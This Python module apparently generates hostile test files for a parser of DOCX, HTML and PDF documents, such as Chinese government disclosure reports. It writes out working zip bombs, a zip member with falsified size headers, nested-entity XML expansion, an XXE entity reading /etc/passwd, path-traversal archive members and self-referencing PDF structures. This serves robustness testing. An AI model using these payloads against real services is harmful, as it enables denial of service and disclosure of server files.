"""Files made to harm who reads them."""

from __future__ import annotations

import io
import zipfile
import zlib

CONTENT_TYPES = (
    '<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
    '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
    '<Default Extension="xml" ContentType="application/xml"/><Override PartName="/word/document.xml" ContentType='
    '"application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/></Types>'
)
RELATIONS = (
    '<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
    '<Relationship Id="r1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument"'
    ' Target="word/document.xml"/></Relationships>'
)
DOCUMENT = (
    '<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:body><w:p><w:r><w:t>'
    "{}</w:t></w:r></w:p></w:body></w:document>"
)
TITLE = "某市科学技术局2017年政府信息公开工作年度报告"


def docx(document: str | bytes, **more: bytes) -> bytes:
    """Make a Word file of this document.xml and further members."""
    packed = io.BytesIO()
    with zipfile.ZipFile(packed, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("[Content_Types].xml", CONTENT_TYPES)
        archive.writestr("_rels/.rels", RELATIONS)
        archive.writestr("word/document.xml", document)
        for name, data in more.items():
            archive.writestr(name, data)
    return packed.getvalue()


def zip_bomb() -> bytes:
    return docx(DOCUMENT.format(TITLE + " " * (80 << 20)))


def bomb_beside() -> bytes:
    return docx(DOCUMENT.format(TITLE), **{"word/media/image1.bin": b"\0" * (260 << 20)})


def lying_bomb() -> bytes:
    """A member whose stated size is small and whose content is not."""
    data = bytearray(docx(DOCUMENT.format(TITLE + " " * (30 << 20))))
    for signature, offset in ((b"PK\x03\x04", 22), (b"PK\x01\x02", 24)):
        at = data.find(b"word/document.xml", data.find(signature))
        start = data.rfind(signature, 0, at)
        data[start + offset : start + offset + 4] = (1000).to_bytes(4, "little")
    return bytes(data)


def entities() -> bytes:
    """Entities of entities: a few hundred bytes that stand for gigabytes."""
    levels = "".join(f'<!ENTITY e{n} "{f"&e{n - 1};" * 10}">' for n in range(1, 12))
    return docx(f'<!DOCTYPE d [<!ENTITY e0 "政府信息公开">{levels}]>' + DOCUMENT.format("&e11;"))


def outside_entity() -> bytes:
    """An entity that would read a file of the server."""
    return docx('<!DOCTYPE d [<!ENTITY x SYSTEM "file:///etc/passwd">]>' + DOCUMENT.format(TITLE + "&x;"))


def deep_xml() -> bytes:
    opened = "<w:tbl><w:tr><w:tc>" * 20000
    return docx(DOCUMENT.replace("<w:p>", opened + "<w:p>").format(TITLE))


def deep_html() -> bytes:
    return b"<html><body>" + b"<div>" * 200_000 + TITLE.encode()


def pdf(*objects: bytes) -> bytes:
    """Make a PDF of numbered objects, the first of which is its catalogue."""
    data, places = b"%PDF-1.4\n", []
    for number, content in enumerate(objects, 1):
        places.append(len(data))
        data += b"%d 0 obj\n%s\nendobj\n" % (number, content)
    table = b"".join(b"%010d 00000 n \n" % place for place in places)
    size = len(objects) + 1
    tail = b"trailer\n<< /Size %d /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF" % (size, len(data))
    return data + b"xref\n0 %d\n0000000000 65535 f \n%s" % (size, table) + tail


def page_loop() -> bytes:
    return pdf(b"<< /Type /Catalog /Pages 2 0 R >>", b"<< /Type /Pages /Kids [2 0 R 2 0 R] /Count 1000000 >>")


def reference_loop() -> bytes:
    return pdf(b"<< /Type /Catalog /Pages 2 0 R >>", b"3 0 R", b"2 0 R")


def form_loop() -> bytes:
    """A form that draws itself."""
    form = b"<< /Type /XObject /Subtype /Form /BBox [0 0 9 9] /Resources << /XObject << /F 5 0 R >> >> /Length 5 >>"
    return pdf(
        b"<< /Type /Catalog /Pages 2 0 R >>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 99 99] /Contents 4 0 R"
        b" /Resources << /XObject << /F 5 0 R >> >> >>",
        b"<< /Length 5 >>\nstream\n/F Do\nendstream",
        form + b"\nstream\n/F Do\nendstream",
    )


def stream_bomb() -> bytes:
    packed = zlib.compress(b"(x) Tj " * (6 << 20), 9)
    return pdf(
        b"<< /Type /Catalog /Pages 2 0 R >>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 99 99] /Contents 4 0 R >>",
        b"<< /Length %d /Filter /FlateDecode >>\nstream\n%s\nendstream" % (len(packed), packed),
    )


def paths() -> bytes:
    """Members that would stand outside of where they are unpacked."""
    return docx(DOCUMENT.format("no report"), **{"../../escaped.txt": b"x", "/tmp/escaped.txt": b"x"})


FILES = {
    "bomb.docx": zip_bomb,
    "beside.docx": bomb_beside,
    "lying.docx": lying_bomb,
    "entities.docx": entities,
    "outside.docx": outside_entity,
    "deep.docx": deep_xml,
    "deep.html": deep_html,
    "paths.docx": paths,
    "pages.pdf": page_loop,
    "references.pdf": reference_loop,
    "forms.pdf": form_loop,
    "stream.pdf": stream_bomb,
}
